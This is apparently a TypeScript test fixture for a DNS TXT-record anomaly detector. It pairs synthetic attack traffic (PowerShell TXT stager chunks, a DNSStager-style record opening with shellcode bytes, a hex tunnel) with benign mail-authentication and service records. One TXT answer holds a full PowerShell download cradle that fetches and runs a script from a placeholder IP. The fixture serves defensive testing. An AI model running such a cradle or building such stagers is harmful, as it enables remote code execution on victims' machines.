/**
 * txt-anomaly: a PowerShell TXT stager (255-char base64 chunks), a TXT answer carrying an IEX
 * download cradle, DNSStager's TXT mode (base64 of hex shellcode) and a TXT tunnel with many
 * names fire; mail authentication, verification tokens, DNSBL reasons, DNS-SD and a TXT poller
 * stay silent.
 */
import type { TestEvent } from '../../testing/store-builder';
import { draw, HEX, rng, T0 } from './encoded-label-tunnel';

const r = rng(7);
const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const txt = (value: string) => ({ type: 16, value });

export const fires: TestEvent[] = [
  // nishang-style: base64(Deflate(script)) in 255-char TXT records from 1.<dom>, 2.<dom>, …
  ...Array.from({ length: 6 }, (_, i): TestEvent => ({
    t: T0 + i * 5,
    host: 'WS2',
    image: PS,
    qname: `${i + 1}.ps.stager-example.com`,
    qtype: 16,
    answers: [txt(draw(r, B64, 255))],
  })),
  // a download cradle in a TXT answer
  {
    t: T0 + 100,
    host: 'WS2',
    image: PS,
    qname: 'cfg.cradle-example.net',
    qtype: 16,
    answers: [txt("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")],
  },
  // DNSStager TXT v1.0: base64 of the ASCII hex of the payload
  ...Array.from({ length: 7 }, (_, i): TestEvent => ({
    t: T0 + 200 + i,
    host: 'WS5',
    image: 'C:\\Users\\sara\\Desktop\\dns_stager.exe',
    qname: `cdn${i}.fakedns.live`,
    qtype: 16,
    answers: [txt(btoa((i === 0 ? 'fc4883e4f0e8c8000000415141505251' : '') + draw(r, HEX, 150 - (i === 0 ? 32 : 0))))],
    ttl: 300,
  })),
  // a TXT tunnel: many distinct names, short hex answers
  ...Array.from({ length: 40 }, (_, i): TestEvent => ({
    t: T0 + 300 + i,
    host: '192.168.88.2',
    qname: `${draw(r, HEX, 18)}.dnsc.txt-tunnel.org`,
    qtype: 16,
    answers: [txt(draw(r, HEX, 18))],
    ttl: 60,
  })),
];

const MTA = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\EdgeTransport.exe';
const spf = 'v=spf1 include:_spf.google.com include:spf.protection.outlook.com include:servers.mcsv.net ip4:198.51.100.0/24 ip4:203.0.113.0/24 -all';
const dkim = `v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA${draw(r, B64, 300)}`;
export const silent: TestEvent[] = [
  // a mail relay checking SPF, DKIM and DMARC of many sender domains
  ...Array.from({ length: 120 }, (_, i): TestEvent[] => [
    { t: T0 + i * 3, host: 'MX1', image: MTA, qname: `sender${i}.example.com`, qtype: 16, answers: [txt(spf), txt('google-site-verification=' + draw(r, B64.slice(0, 62), 43))] },
    { t: T0 + i * 3 + 1, host: 'MX1', image: MTA, qname: `selector1._domainkey.sender${i}.example.com`, qtype: 16, answers: [txt(dkim)] },
    { t: T0 + i * 3 + 2, host: 'MX1', image: MTA, qname: `_dmarc.sender${i}.example.com`, qtype: 16, answers: [txt('v=DMARC1; p=reject; rua=mailto:dmarc-reports@example.com; ruf=mailto:dmarc-forensics@example.com; fo=1; adkim=s; aspf=s')] },
  ]).flat(),
  // verification tokens on one busy domain
  { t: T0 + 500, host: 'WS1', image: 'C:\\Tools\\dig.exe', qname: 'example.org', qtype: 16, answers: [txt('MS=ms12345678'), txt('facebook-domain-verification=' + draw(r, 'abcdefghijklmnopqrstuvwxyz0123456789', 30)), txt('apple-domain-verification=' + draw(r, B64.slice(0, 62), 120)), txt(spf)] },
  // DNSBL reason strings
  ...Array.from({ length: 30 }, (_, i): TestEvent => ({ t: T0 + 600 + i, host: 'MX1', image: MTA, qname: `${i}.2.0.127.zen.spamhaus.org`, qtype: 16, answers: [txt(`Listed by SBL, see https://check.spamhaus.org/sbl/query/SBL${100000 + i} for the reason and the removal procedure`)] })),
  // DNS-SD TXT records in multicast DNS
  ...Array.from({ length: 30 }, (_, i): TestEvent => ({ t: T0 + 700 + i, host: '192.168.0.8', qname: `_uqxmij${i}._sub._amzn-wplay._tcp.local`, qtype: 16, answers: [txt(`s=0at=${draw(r, B64.slice(0, 62), 40)}n=Living Room TV Sticktr=tcpsp=48300pv=1mv=2v=2a=0u=${draw(r, HEX, 32)}ad=A2LWARUGJLBYEW`)] })),
  // an agent polling one TXT name for its configuration every minute
  ...Array.from({ length: 200 }, (_, i): TestEvent => ({ t: T0 + i * 60, host: 'WS4', image: 'C:\\Program Files\\Agent\\agent.exe', qname: 'config.updates-example.com', qtype: 16, answers: [txt('interval=3600;channel=stable')] })),
];
